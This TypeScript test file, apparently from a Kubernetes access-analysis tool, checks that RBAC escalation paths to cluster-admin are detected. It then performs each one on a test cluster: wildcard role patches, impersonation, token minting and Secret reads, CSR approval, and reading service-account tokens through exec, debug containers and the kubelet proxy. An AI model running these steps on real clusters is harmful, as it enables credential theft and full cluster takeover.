import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { type EscalationPath, pathsIn } from '../../src/access/paths/paths.ts';
import type { Reached } from '../../src/access/paths/search.ts';
import { worldOf } from '../../src/access/paths/world.ts';
import { type RbacSubject } from '../../src/access/objects.ts';
import type { KubeObject } from '../../src/crd/kubernetes.ts';
import { dumpManifest, loadManifest, loadManifests } from '../../src/crd/manifest.ts';
import { connect } from '../../src/kube/connect.ts';
import { graphReader } from '../../src/kube/graph-reader.ts';
import { findKubectl, type Kubectl, kubectlFor } from '../support/cluster/kubectl.ts';
import { until } from '../support/runner/wait.ts';

/** Every path to cluster-admin that is found for planted accounts is walked: each step is done as that identity, and the last may do all. */
const test = suite('escalation paths on a real cluster');
const kubeconfig = process.env['TEST_KUBECONFIG'] ?? '';
const NS = `walks-${process.pid}`;
/** With a strong account and a quota that has no room. */
const FULL = `${NS}-full`;
/** A binding names an account there that does not exist. */
const GAP = `${NS}-gap`;
const SOON = { timeoutMs: 60_000, everyMs: 200 };
const RBAC = 'rbac.authorization.k8s.io';
const CERTS = 'certificates.k8s.io';
let binary = '';
let folder = '';
let admin: Kubectl;
let paths: EscalationPath[] = [];
const open: Kubectl[] = [];

interface Plant {
  /** In the namespace with the strong account, or in the whole cluster. */
  isCluster: boolean;
  /** In another namespace than the one with the strong account. */
  at?: string;
  rules: string[];
  /** Steps to cluster-admin; empty: there is no path. */
  expected: string[];
}

const rule = (verbs: string, resources: string, group = "''", names = ''): string =>
  `{apiGroups: [${group}], resources: [${resources}], verbs: [${verbs}]${names && `, resourceNames: [${names}]`}}`;
const certificates = [
  rule('create, get, list, watch', 'certificatesigningrequests', CERTS),
  rule('update', 'certificatesigningrequests/approval', CERTS),
];

/** What stands beside the rights of a path only lets kubectl look first: it opens nothing. */
const PLANTS: Record<string, Plant> = {
  bind: {
    isCluster: true,
    rules: [rule('create', 'clusterrolebindings', RBAC), rule('bind', 'clusterroles', RBAC, 'cluster-admin')],
    expected: ['bind'],
  },
  'bind-alone': { isCluster: true, rules: [rule('bind', 'clusterroles', RBAC)], expected: [] },
  'bindings-alone': { isCluster: true, rules: [rule('create', 'clusterrolebindings', RBAC)], expected: [] },
  escalate: {
    isCluster: true,
    rules: [rule('get, patch, escalate', 'clusterroles', RBAC, `${NS}-escalate`)],
    expected: ['escalate'],
  },
  'patch-alone': { isCluster: true, rules: [rule('get, patch', 'clusterroles', RBAC)], expected: [] },
  impersonate: { isCluster: false, rules: [rule('impersonate', 'serviceaccounts', "''", 'boss')], expected: ['impersonate'] },
  'impersonate-group': { isCluster: true, rules: [rule('impersonate', 'groups', "''", "'system:masters'")], expected: [] },
  token: { isCluster: false, rules: [rule('create', 'serviceaccounts/token', "''", 'boss')], expected: ['token'] },
  'token-other': { isCluster: false, rules: [rule('create', 'serviceaccounts/token', "''", 'plain')], expected: [] },
  'token-secret': { isCluster: false, rules: [rule('create, get', 'secrets')], expected: ['token-secret'] },
  'secret-alone': { isCluster: false, rules: [rule('create', 'secrets')], expected: [] },
  csr: {
    isCluster: true,
    rules: [...certificates, rule('approve', 'signers', CERTS, 'kubernetes.io/kube-apiserver-client')],
    expected: ['csr'],
  },
  'csr-serving': {
    isCluster: true,
    rules: [...certificates, rule('approve', 'signers', CERTS, 'kubernetes.io/kubelet-serving')],
    expected: [],
  },
  exec: { isCluster: false, rules: [rule('get', 'pods'), rule('create', 'pods/exec')], expected: ['exec'] },
  'exec-other': { isCluster: false, rules: [rule('get', 'pods'), rule('create', 'pods/exec', "''", 'other')], expected: [] },
  pod: { isCluster: false, rules: [rule('create, get', 'pods'), rule('get', 'pods/log')], expected: ['pod-account'] },
  'pod-named': {
    isCluster: false,
    rules: [rule('create, patch', 'pods', "''", 'named'), rule('get', 'pods, pods/log')],
    expected: ['pod-account'],
  },
  'pod-only-named': { isCluster: false, rules: [rule('create', 'pods', "''", 'named')], expected: [] },
  job: { isCluster: false, rules: [rule('create', 'jobs', 'batch'), rule('get, list', 'pods, pods/log')], expected: ['pod-account'] },
  'job-elsewhere': { isCluster: false, rules: [rule('create', 'jobs', 'example.org'), rule('patch', 'jobs', 'batch')], expected: [] },
  ephemeral: {
    isCluster: false,
    rules: [rule('get', 'pods, pods/log'), rule('patch', 'pods/ephemeralcontainers')],
    expected: ['ephemeral'],
  },
  'ephemeral-other': { isCluster: false, rules: [rule('patch', 'pods/ephemeralcontainers', "''", 'other')], expected: [] },
  kubelet: { isCluster: true, rules: [rule('create', 'nodes/proxy')], expected: ['kubelet'] },
  'kubelet-other': { isCluster: true, rules: [rule('create, get', 'nodes/proxy', "''", 'no-node')], expected: [] },
  'kubelet-delete': { isCluster: true, rules: [rule('delete', 'nodes/proxy'), rule('get', 'nodes')], expected: [] },
  'bind-named': {
    isCluster: true,
    rules: [rule('create, patch', 'clusterrolebindings', RBAC, `${NS}-named`), rule('bind', 'clusterroles', RBAC, 'cluster-admin')],
    expected: ['bind'],
  },
  'bind-only-named': {
    isCluster: true,
    rules: [rule('create', 'clusterrolebindings', RBAC, `${NS}-named`), rule('bind', 'clusterroles', RBAC, 'cluster-admin')],
    expected: [],
  },
  'new-role': {
    isCluster: true,
    rules: [rule('create', 'clusterrolebindings', RBAC), rule('create, patch, escalate, bind', 'clusterroles', RBAC, `${NS}-made`)],
    expected: ['escalate', 'bind'],
  },
  'new-role-unbound': { isCluster: true, rules: [rule('create, patch, escalate', 'clusterroles', RBAC, `${NS}-none`)], expected: [] },
  'impersonate-missing': {
    isCluster: false,
    at: GAP,
    rules: [rule('impersonate', 'serviceaccounts', "''", 'ghost')],
    expected: ['impersonate'],
  },
  'token-missing': { isCluster: false, at: GAP, rules: [rule('create', 'serviceaccounts/token', "''", 'ghost')], expected: [] },
  'token-secret-patch': { isCluster: false, rules: [rule('create, patch', 'secrets')], expected: ['token-secret'] },
  'secret-update': { isCluster: false, rules: [rule('create, update', 'secrets')], expected: [] },
  'new-account': {
    isCluster: false,
    at: GAP,
    rules: [rule('create', 'pods, serviceaccounts'), rule('get', 'pods, pods/log')],
    expected: ['new-account'],
  },
  'account-alone': { isCluster: false, at: GAP, rules: [rule('create', 'serviceaccounts')], expected: [] },
  quota: {
    isCluster: false,
    at: FULL,
    rules: [rule('create', 'pods'), rule('get', 'pods, pods/log'), rule('delete', 'resourcequotas', "''", 'none')],
    expected: ['quota', 'pod-account'],
  },
  'quota-full': { isCluster: false, at: FULL, rules: [rule('create', 'pods')], expected: [] },
  'quota-other': {
    isCluster: false,
    at: FULL,
    rules: [rule('create', 'pods'), rule('delete', 'resourcequotas', "''", 'other')],
    expected: [],
  },
};

const planted = ([name, { isCluster, at = NS, rules }]: [string, Plant]): string => {
  const role = isCluster ? `ClusterRole, metadata: {name: ${NS}-${name}}` : `Role, metadata: {name: ${name}, namespace: ${at}}`;
  const binding = isCluster
    ? `ClusterRoleBinding, metadata: {name: ${NS}-${name}}`
    : `RoleBinding, metadata: {name: ${name}, namespace: ${at}}`;
  const ref = isCluster ? `{apiGroup: ${RBAC}, kind: ClusterRole, name: ${NS}-${name}}` : `{apiGroup: ${RBAC}, kind: Role, name: ${name}}`;
  return `{apiVersion: v1, kind: ServiceAccount, metadata: {name: ${name}, namespace: ${NS}}}
---
{apiVersion: ${RBAC}/v1, kind: ${role}, rules: [${rules.join(', ')}]}
---
{apiVersion: ${RBAC}/v1, kind: ${binding}, roleRef: ${ref}, subjects: [{kind: ServiceAccount, name: ${name}, namespace: ${NS}}]}`;
};
const runnerSpec = (command: string, account = 'boss'): string =>
  `{serviceAccountName: ${account}, terminationGracePeriodSeconds: 0, restartPolicy: Never, containers: [{name: app, image: 'busybox:1.35', command: [sh, -c, '${command}']}]}`;
const runner = (name: string, command: string, namespace = NS, account = 'boss'): string =>
  `{apiVersion: v1, kind: Pod, metadata: {name: ${name}, namespace: ${namespace}}, spec: ${runnerSpec(command, account)}}`;
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const CLUSTER = [
  `{apiVersion: v1, kind: Namespace, metadata: {name: ${NS}}}`,
  `{apiVersion: v1, kind: ServiceAccount, metadata: {name: boss, namespace: ${NS}}}`,
  `{apiVersion: v1, kind: ServiceAccount, metadata: {name: plain, namespace: ${NS}}}`,
  `{apiVersion: ${RBAC}/v1, kind: ClusterRoleBinding, metadata: {name: ${NS}-boss}, roleRef: {apiGroup: ${RBAC}, kind: ClusterRole, name: cluster-admin}, subjects: [{kind: ServiceAccount, name: boss, namespace: ${NS}}, {kind: ServiceAccount, name: boss, namespace: ${FULL}}, {kind: ServiceAccount, name: ghost, namespace: ${GAP}}]}`,
  ...[FULL, GAP].map((name) => `{apiVersion: v1, kind: Namespace, metadata: {name: ${name}}}`),
  `{apiVersion: v1, kind: ServiceAccount, metadata: {name: boss, namespace: ${FULL}}}`,
  `{apiVersion: v1, kind: ResourceQuota, metadata: {name: none, namespace: ${FULL}}, spec: {hard: {pods: '0'}}}`,
  ...Object.entries(PLANTS).map(planted),
  runner('target', 'sleep 3600'),
].join('\n---\n');

/** What kubectl prints; throws what it complains about. */
async function say(kubectl: Kubectl, args: string[], input?: string): Promise<string> {
  const { code, stdout, stderr } = await kubectl(args, input);
  if (code !== 0) throw new Error(`kubectl ${args.join(' ')}: ${stderr}`);
  return stdout.trim();
}

/** A kubectl of somebody else in the same cluster. */
async function as(credentials: object): Promise<Kubectl> {
  const config = loadManifest(readFileSync(kubeconfig, 'utf8')) as unknown as { users: { user: object }[] };
  for (const user of config.users) user.user = credentials;
  const kubectl = await kubectlFor(binary, dumpManifest(config as unknown as KubeObject));
  open.push(kubectl);
  return kubectl;
}

async function assertAll(kubectl: Kubectl, ...more: string[]): Promise<void> {
  // An authorizer may know a new binding a moment later.
  await until(async () => (await kubectl(['auth', 'can-i', '*', '*', '--all-namespaces', ...more])).stdout.trim() === 'yes', {
    ...SOON,
    what: 'the last identity to be allowed everything',
  });
}

const blocks = (yaml: string): string => loadManifests(yaml).map(dumpManifest).join('---\n');
const userOf = ({ kind, namespace, name }: RbacSubject): string =>
  kind === 'ServiceAccount' ? `system:serviceaccount:${namespace}:${name}` : name;
function gained({ power }: Reached): RbacSubject {
  assert.is(power.kind, 'acts-as');
  return (power as { subject: RbacSubject }).subject;
}

type Walk = (eve: Kubectl, step: Reached) => Promise<void>;

/** The log of a pod is the token that it was given. */
async function assertLog(eve: Kubectl, pod: string, namespace: string, ...more: string[]): Promise<void> {
  const token = await until(async () => (await eve(['logs', pod, '-n', namespace, ...more])).stdout.trim(), {
    ...SOON,
    what: `the token in the log of ${pod}`,
  });
  await assertAll(await as({ token }));
}
const tokenSecret = (name: string): string =>
  blocks(
    `{apiVersion: v1, kind: Secret, metadata: {name: ${name}, namespace: ${NS}, annotations: {kubernetes.io/service-account.name: boss}}, type: kubernetes.io/service-account-token}`,
  );
const bindingFor = (name: string, role: string, subject: string): string =>
  blocks(
    `{apiVersion: ${RBAC}/v1, kind: ClusterRoleBinding, metadata: {name: ${name}}, roleRef: {apiGroup: ${RBAC}, kind: ClusterRole, name: ${role}}, subjects: [{kind: ServiceAccount, name: ${subject}, namespace: ${NS}}]}`,
  );

/** Plants whose way has several forms, or several steps. */
const OWN_WALKS: Record<string, Walk> = {
  async 'bind-named'(eve) {
    await say(eve, ['apply', '--server-side', '-f', '-'], bindingFor(`${NS}-named`, 'cluster-admin', 'bind-named'));
    await assertAll(eve);
  },
  async 'new-role'(eve) {
    const all = `{apiVersion: ${RBAC}/v1, kind: ClusterRole, metadata: {name: ${NS}-made}, rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]}`;
    await say(eve, ['apply', '--server-side', '-f', '-'], blocks(all));
    await say(eve, ['create', '-f', '-'], bindingFor(`${NS}-made`, `${NS}-made`, 'new-role'));
    await assertAll(eve);
  },
  async 'token-secret-patch'(eve) {
    await say(eve, ['create', '-f', '-'], tokenSecret('patched'));
    const coded = await until(
      () => say(eve, ['apply', '--server-side', '-f', '-', '-o', 'jsonpath={.data.token}'], tokenSecret('patched')),
      { ...SOON, what: 'the token in the answer' },
    );
    await assertAll(await as({ token: Buffer.from(coded, 'base64').toString() }));
  },
  async 'pod-named'(eve) {
    await say(eve, ['apply', '--server-side', '-f', '-'], blocks(runner('named', `cat ${TOKEN}`)));
    await assertLog(eve, 'named', NS);
  },
  async job(eve) {
    const job = `{apiVersion: batch/v1, kind: Job, metadata: {name: mine, namespace: ${NS}}, spec: {template: {spec: ${runnerSpec(`cat ${TOKEN}`)}}}}`;
    await say(eve, ['create', '-f', '-'], blocks(job));
    const pod = await until(() => say(eve, ['get', 'pods', '-n', NS, '-l', 'job-name=mine', '-o', 'name']), {
      ...SOON,
      what: 'the pod of the Job',
    });
    await assertLog(eve, pod, NS);
  },
  async quota(eve) {
    await say(eve, ['delete', 'resourcequota', 'none', '-n', FULL]);
    // The admission plugin may know the quota a moment longer.
    await until(async () => (await eve(['create', '-f', '-'], blocks(runner('mine', `cat ${TOKEN}`, FULL)))).code === 0, {
      ...SOON,
      what: 'room for a pod',
    });
    await assertLog(eve, 'mine', FULL);
  },
};

/** How each step is done. What it ends with may do everything. */
const WALKS: Partial<Record<Reached['way'], Walk>> = {
  async bind(eve) {
    await say(eve, ['create', 'clusterrolebinding', `${NS}-bound`, '--clusterrole=cluster-admin', `--serviceaccount=${NS}:bind`]);
    await assertAll(eve);
  },
  async escalate(eve) {
    const all = { op: 'add', path: '/rules/-', value: { apiGroups: ['*'], resources: ['*'], verbs: ['*'] } };
    await say(eve, ['patch', 'clusterrole', `${NS}-escalate`, '--type=json', '-p', JSON.stringify([all])]);
    await assertAll(eve);
  },
  impersonate: (eve, step) => assertAll(eve, '--as', userOf(gained(step))),
  async token(eve, step) {
    const { name, namespace = '' } = gained(step);
    await assertAll(await as({ token: await say(eve, ['create', 'token', name, '-n', namespace]) }));
  },
  async 'token-secret'(eve, step) {
    const { name, namespace = '' } = gained(step);
    const secret = `{apiVersion: v1, kind: Secret, metadata: {name: of-${name}, namespace: ${namespace}, annotations: {kubernetes.io/service-account.name: ${name}}}, type: kubernetes.io/service-account-token}`;
    await say(eve, ['create', '-f', '-'], blocks(secret));
    const coded = await until(async () => say(eve, ['get', 'secret', `of-${name}`, '-n', namespace, '-o', 'jsonpath={.data.token}']), {
      ...SOON,
      what: 'the token in the Secret',
    });
    await assertAll(await as({ token: Buffer.from(coded, 'base64').toString() }));
  },
  async csr(eve, step) {
    const subject = gained(step);
    const [key, request] = [join(folder, 'key.pem'), join(folder, 'request.pem')];
    const name = subject.kind === 'Group' ? `/O=${subject.name}/CN=anybody` : `/CN=${userOf(subject)}`;
    execFileSync('openssl', ['req', '-new', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-subj', name, '-out', request], {
      stdio: 'ignore',
    });
    const body = {
      apiVersion: `${CERTS}/v1`,
      kind: 'CertificateSigningRequest',
      metadata: { name: NS },
      spec: {
        request: readFileSync(request).toString('base64'),
        signerName: 'kubernetes.io/kube-apiserver-client',
        expirationSeconds: 600,
        usages: ['client auth'],
      },
    };
    await say(eve, ['create', '-f', '-'], JSON.stringify(body));
    await say(eve, ['certificate', 'approve', NS]);
    const signed = await until(async () => say(eve, ['get', 'csr', NS, '-o', 'jsonpath={.status.certificate}']), {
      ...SOON,
      what: 'the signed certificate',
    });
    await assertAll(await as({ 'client-certificate-data': signed, 'client-key-data': readFileSync(key).toString('base64') }));
  },
  async ephemeral(eve, { through }) {
    const { name = '', namespace = '' } = through ?? {};
    const volume = await say(eve, ['get', 'pod', name, '-n', namespace, '-o', 'jsonpath={.spec.volumes[?(@.projected)].name}']);
    const custom = join(folder, 'mounts.json');
    writeFileSync(custom, JSON.stringify({ volumeMounts: [{ name: volume, mountPath: '/token' }] }));
    const image = ['--image=busybox:1.35', '--profile=general', `--custom=${custom}`, '--container=mine'];
    await say(eve, ['debug', name, '-n', namespace, ...image, '--', 'cat', '/token/token']);
    await assertLog(eve, name, namespace, '-c', 'mine');
  },
  async kubelet(eve, { through }) {
    const { name = '', namespace = '' } = through ?? {};
    const where = '{.spec.nodeName} {.spec.containers[0].name}';
    const [node, container] = (await say(admin, ['get', 'pod', name, '-n', namespace, '-o', `jsonpath=${where}`])).split(' ');
    const path = `/api/v1/nodes/${node}/proxy/run/${namespace}/${name}/${container}?cmd=cat%20${encodeURIComponent(TOKEN)}`;
    await assertAll(await as({ token: await say(eve, ['create', '--raw', path, '-f', '-'], '{}') }));
  },
  async 'new-account'(eve) {
    await say(eve, ['create', 'serviceaccount', 'ghost', '-n', GAP]);
    await say(eve, ['create', '-f', '-'], blocks(runner('mine', `cat ${TOKEN}`, GAP, 'ghost')));
    await assertLog(eve, 'mine', GAP);
  },
  async exec(eve, { through }) {
    await say(admin, ['wait', '--for=condition=Ready', `pod/${through?.name}`, '-n', NS, '--timeout=90s']);
    await assertAll(await as({ token: await say(eve, ['exec', through?.name ?? '', '-n', through?.namespace ?? '', '--', 'cat', TOKEN]) }));
  },
  async 'pod-account'(eve) {
    await say(eve, ['create', '-f', '-'], blocks(runner('mine', `cat ${TOKEN}`)));
    await assertLog(eve, 'mine', NS);
  },
};

test.before(async () => {
  const found = await findKubectl();
  if ('missing' in found) throw new Error(found.missing);
  binary = found.path;
  folder = mkdtempSync(join(tmpdir(), 'podmend-walks-'));
  admin = await kubectlFor(binary, readFileSync(kubeconfig, 'utf8'));
  await say(admin, ['create', '-f', '-'], blocks(CLUSTER));
  await say(admin, ['wait', '--for=condition=Ready', 'pod/target', '-n', NS, '--timeout=90s']);
  await until(() => say(admin, ['get', 'resourcequota', 'none', '-n', FULL, '-o', 'jsonpath={.status.hard.pods}']), {
    ...SOON,
    what: 'the quota to count',
  });
  const client = connect({ kubeconfig });
  const graces = { pendingSeconds: 1, unreadySeconds: 1 };
  const reader = graphReader({ client, watchNamespaces: [], graces, now: () => new Date() });
  const [access, around] = await Promise.all([reader.access(), reader.around()]);
  assert.equal([...access.missingRights, ...around.missingRights], []);
  paths = pathsIn(worldOf(around.objects, true, access.objects), ({ namespace }) => namespace === NS);
  client.close();
});
test.after(async () => {
  const names = Object.keys(PLANTS).map((name) => `${NS}-${name}`);
  await admin?.(['delete', 'clusterrolebinding', '--ignore-not-found', `${NS}-bound`, `${NS}-boss`, `${NS}-named`, `${NS}-made`, ...names]);
  await admin?.(['delete', 'clusterrole', '--ignore-not-found', `${NS}-made`, ...names]);
  await admin?.(['delete', 'csr', '--ignore-not-found', NS]);
  await admin?.(['delete', 'namespace', NS, FULL, GAP, '--wait=false']);
  await Promise.all([admin, ...open].map((kubectl) => kubectl?.close()));
  if (folder) rmSync(folder, { recursive: true });
});

test('each planted path is found, and no near miss', () => {
  const told = paths
    .filter(({ target }) => target.kind === 'cluster-admin')
    .map(({ subject, steps }) => `${subject.name}: ${steps.map(({ way }) => way).join(' > ')}`);
  const expected = Object.entries(PLANTS).flatMap(([name, plant]) =>
    plant.expected.length > 0 ? [`${name}: ${plant.expected.join(' > ')}`] : [],
  );
  assert.equal(told.toSorted(), expected.toSorted());
});

for (const [name, { expected }] of Object.entries(PLANTS)) {
  if (expected.length === 0) continue;
  test(`${name}: the path is walked, and its end may do everything`, async () => {
    const path = paths.find(({ subject, target }) => subject.name === name && target.kind === 'cluster-admin');
    const [step] = path?.steps ?? [];
    const walk = step && (OWN_WALKS[name] ?? WALKS[step.way]);
    assert.ok(path && step && walk, `${name} has no path that can be walked`);
    const eve = await as({ token: await say(admin, ['create', 'token', name, '-n', NS]) });
    assert.is((await eve(['auth', 'can-i', '*', '*', '--all-namespaces'])).stdout.trim(), 'no');
    await walk(eve, step);
  });
}

test.run();
